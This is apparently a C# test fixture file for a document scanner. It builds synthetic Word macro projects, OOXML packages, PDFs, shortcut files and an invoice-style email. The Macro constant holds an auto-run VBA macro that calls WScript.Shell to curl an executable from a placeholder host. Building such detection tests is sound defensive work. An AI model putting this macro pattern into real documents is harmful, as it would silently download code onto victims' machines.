using System.IO.Compression;
using System.Text;

namespace Redoubt.Scripts.Tests.Files.Building;

/// <summary>Documents with what attacks put in them; all texts are made up.</summary>
internal static class Documents
{
    public const string Macro = "Sub AutoOpen()\r\n  Dim s\r\n  Set s = CreateObject(\"WScript.Shell\")\r\n  s.Run \"cmd /c curl http://files.example.com/a.exe\"\r\nEnd Sub\r\n";

    /// <summary>The macros of a project: a list of modules and one module.</summary>
    public static Compound Project(Compound to, string folder, string code, int compiled = 40)
    {
        var records = new Bytes().U16(0x03).U32(2).U16(1252).U16(0x09).U32(4).U32(1).U16(1).U16(0x19).U32(7).Text("Module1").U16(0x1A).U32(7).Text("Module1").U16(0x31).U32(4).U32(compiled).U16(0x2B).U32(0).Done();
        return to.Storage(folder).Storage(folder + "/VBA").Stream(folder + "/VBA/dir", Packed(records))
            .Stream(folder + "/VBA/Module1", [.. new byte[compiled], .. Packed(Encoding.Latin1.GetBytes("Attribute VB_Name = \"Module1\"\r\n" + code))]);
    }

    public static byte[] Word(string code = Macro, int compiled = 40) => Project(new Compound().Stream("WordDocument", new byte[64]), "Macros", code, compiled).Done();

    public static byte[] Zip(params (string Name, byte[] Content)[] members)
    {
        using var to = new MemoryStream();
        using (var zip = new ZipArchive(to, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content) in members)
            {
                using var stream = zip.CreateEntry(name).Open();
                stream.Write(content);
            }
        }

        return to.ToArray();
    }

    public static byte[] WordXml(string relation, byte[]? project = null, string field = "") => Zip(
    [
        ("[Content_Types].xml", Utf("<Types/>")), ("_rels/.rels", Utf("<Relationships/>")), ("word/document.xml", Utf($"<w:document><w:instrText>{field}</w:instrText></w:document>")),
        ("word/_rels/settings.xml.rels", Utf($"<Relationships>{relation}</Relationships>")), .. project is null ? [] : new[] { ("word/vbaProject.bin", project) },
    ]);

    public static byte[] Pdf(string actions, params (int Number, string Dictionary, byte[] Stream)[] streams)
    {
        var to = new Bytes().Text($"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R {actions} >>\nendobj\n2 0 obj\n<< /Type /Pages /Count 1 /Kids [3 0 R] >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R >>\nendobj\n");
        foreach (var (number, dictionary, stream) in streams)
            to.Text($"{number} 0 obj\n<< {dictionary} /Length {stream.Length} >>\nstream\n").Raw(stream).Text("\nendstream\nendobj\n");
        return to.Text("trailer\n<< /Root 1 0 R >>\n%%EOF\n").Done();
    }

    public static byte[] Deflated(string text)
    {
        using var to = new MemoryStream();
        using (var stream = new ZLibStream(to, CompressionLevel.Optimal, leaveOpen: true))
            stream.Write(Utf(text));
        return to.ToArray();
    }

    public static byte[] Link(string target, string arguments, string icon = "", byte[]? after = null)
    {
        var to = new Bytes().U32(0x4C).Raw(new Guid("00021401-0000-0000-C000-000000000046").ToByteArray()).U32(0xA0 | (icon.Length > 0 ? 0x40 : 0) | 0x200, 0x20).PadTo(60).U32(7).PadTo(76);
        to.U16(arguments.Length).Wide(arguments);
        if (icon.Length > 0)
            to.U16(icon.Length).Wide(icon);
        var at = to.Length;
        to.U32(0x314, 0xA0000001).Text(target).PadTo(at + 268).Wide(target).PadTo(at + 0x314);
        at = to.Length;
        return to.U32(0x60, 0xA0000003, 0x58, 0).Text("DESKTOP-MADEUP").PadTo(at + 0x60).U32(0).Raw(after ?? []).Done();
    }

    public static byte[] Mail(string headers, string html, string name, byte[] attachment) => Utf(
        $"Return-Path: <bounce@mailer.example.net>\r\nReceived: from a.example.net by b.example.org; Mon, 5 Oct 2026 10:00:00 +0000\r\n{headers}To: b@example.org\r\nSubject: Invoice\r\nDate: Mon, 5 Oct 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n" +
        $"Content-Type: multipart/mixed; boundary=\"xyz\"\r\n\r\n--xyz\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n--xyz\r\nContent-Type: application/octet-stream; name=\"{name}\"\r\nContent-Disposition: attachment; filename=\"{name}\"\r\n" +
        $"Content-Transfer-Encoding: base64\r\n\r\n{Convert.ToBase64String(attachment, Base64FormattingOptions.InsertLineBreaks)}\r\n--xyz--\r\n");

    public static byte[] Utf(string text) => Encoding.UTF8.GetBytes(text);

    // In chunks that are not compressed but for their form: each byte as itself.
    private static byte[] Packed(byte[] content)
    {
        var to = new Bytes().U8(1);
        foreach (var chunk in content.Chunk(2048))
        {
            var tokens = new Bytes();
            foreach (var group in chunk.Chunk(8))
                tokens.U8(0).Raw(group);
            to.U16(0xB000 | (tokens.Length - 1)).Raw(tokens.Done());
        }

        return to.Done();
    }
}
